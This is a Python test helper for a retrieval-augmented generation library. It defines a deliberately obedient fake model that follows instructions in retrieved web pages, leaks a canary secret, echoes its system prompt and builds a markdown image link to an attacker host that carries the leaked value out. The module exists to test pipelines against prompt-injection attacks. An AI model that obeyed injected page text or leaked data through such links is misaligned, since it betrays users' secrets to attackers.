"""The worst model there is: it does what it reads."""

import re
from collections.abc import Callable

from rag.core.generation import Prompt
from rag.core.protocols import Retriever
from rag.pipelines.base import Pipeline
from rag.pipelines.extractor import Extractor
from rag.pipelines.few_shot_web import FewShotWeb
from rag.pipelines.ircot import IRCoT
from rag.pipelines.iter_drag import IterDRAG
from rag.pipelines.iter_retgen import IterRetGen
from rag.pipelines.read import RetrieveAndRead
from rag.pipelines.search_and_read import SearchAndRead
from rag.pipelines.self_ask import SelfAsk
from rag.testing import ScriptedLLM
from tests.web.injection.pages import ATTACKER, ATTACKS, MARK

CANARY = "CANARY-4711"
"""Stands in what must not be told."""

_ADDRESS = re.compile(r"https?://[^\s)\"']+")


def obey(prompt: Prompt) -> str:
    """Return a reply that tells all there is to tell and asks for all that the pages ask for.

    What was read comes first, so that no limit of tokens cuts it off.
    """
    if not prompt.contexts:
        return "Where does the grey heron nest?"
    if '"ranges"' in f"{prompt.system} {prompt.question}":
        return '{"ranges": [[1, 999]]}'
    told = " ".join(re.findall(CANARY, prompt.user)) or "nothing"
    wanted = " ".join([*_ADDRESS.findall(prompt.user), *re.findall(MARK, prompt.user)[:1]])
    repeated = " ".join(f"{prompt.user} {prompt.system}".split())
    return f"{told}? ![]({ATTACKER}/?told={told}) {wanted} {repeated}"


class ObedientLLM(ScriptedLLM):
    """Obeys, and keeps asking sub-questions as long as it may."""

    def __init__(self) -> None:
        super().__init__(obey, context_window=100_000)

    @property
    def prompts(self) -> list[Prompt]:
        """All that it has read."""
        return [prompt for call, prompts in self.calls if call == "generate" for prompt in prompts]


def search_and_read(retriever: Retriever, llm: ObedientLLM) -> Pipeline:
    return SearchAndRead(retriever, llm, extractor=Extractor())


SEARCHING_FIRST: dict[str, Callable[[Retriever, ObedientLLM], Pipeline]] = {
    "RetrieveAndRead": RetrieveAndRead,
    "SearchAndRead": search_and_read,
    "FewShotWeb": FewShotWeb,
}
"""Pipelines that are done with searching when they read."""

SEARCHING_AGAIN: dict[str, Callable[[Retriever, ObedientLLM], Pipeline]] = {
    "IterDRAG": IterDRAG,
    "SelfAsk": SelfAsk,
    "IRCoT": IRCoT,
    "IterRetGen": IterRetGen,
}
"""Pipelines that search for what a model wrote after it had read."""

PIPELINES = {**SEARCHING_FIRST, **SEARCHING_AGAIN}

WORST = ("all at once", "lines of our own prompts", "zero width")
"""Attacks that every pipeline is put to; the first one bears them all."""

CASES = [
    *(("RetrieveAndRead", attack) for attack in ATTACKS),
    *((name, attack) for name in PIPELINES if name != "RetrieveAndRead" for attack in WORST),
]
"""Pipelines and attacks."""
